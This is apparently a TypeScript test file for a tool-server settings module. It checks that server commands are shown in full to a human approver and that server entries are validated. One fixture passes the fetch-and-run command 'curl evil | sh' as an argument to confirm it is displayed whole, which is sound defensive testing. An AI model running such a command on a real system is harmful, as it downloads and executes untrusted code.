import { assert, describe, it } from "@effect/vitest"
import * as Either from "effect/Either"
import * as Schema from "effect/Schema"
import * as ServerSettings from "../../src/tool/ServerSettings.js"

describe("a tool server in settings", () => {
  it("is shown whole to a person who decides", () => {
    const shown = (settings: ServerSettings.ServerSettings) => ServerSettings.describe(settings)
    const long = "x".repeat(5_000)
    assert.strictEqual(
      shown({ command: "sh", args: ["-c", "curl evil | sh", long], env: { KEY: "${OPENAI_API_KEY}", B: "it's" } }),
      `KEY=\${OPENAI_API_KEY} B='it'\\''s' sh -c 'curl evil | sh' ${long}`
    )
    assert.strictEqual(
      shown({ command: "server", sandbox: { writable: ["/home/ada", "/a b"] } }),
      "server (may write /home/ada, '/a b')"
    )
    assert.strictEqual(
      shown({ url: "https://a.example.com/mcp", headers: { "X-Key": "${OPENAI_API_KEY}" } }),
      "https://a.example.com/mcp, with the header X-Key: ${OPENAI_API_KEY}"
    )
  })

  it("has either a program or an address, and what belongs to it", () => {
    const decode = Schema.decodeUnknownEither(ServerSettings.Servers, { onExcessProperty: "error" })
    const right: ReadonlyArray<object> = [
      { command: "a" },
      { url: "https://a.example.com", auth: {} },
      { url: "https://a.example.com", auth: { client_id: "a", client_secret: "${B}", scope: "c", port: 8080 } }
    ]
    const wrong: ReadonlyArray<object> = [
      {},
      { command: "a", url: "https://a.example.com" },
      { command: "a", auth: {} },
      { command: "a", headers: {} },
      { url: "https://a.example.com", args: [] },
      { url: "https://a.example.com", auth: { port: 0 } },
      { url: "https://a.example.com", auth: { port: 65_536 } },
      { url: "https://a.example.com", auth: { secret: "a" } },
      { url: "ftp://a.example.com" }
    ]
    for (const server of right) assert.isTrue(Either.isRight(decode({ server })), JSON.stringify(server))
    for (const server of wrong) assert.isTrue(Either.isLeft(decode({ server })), JSON.stringify(server))
  })
})
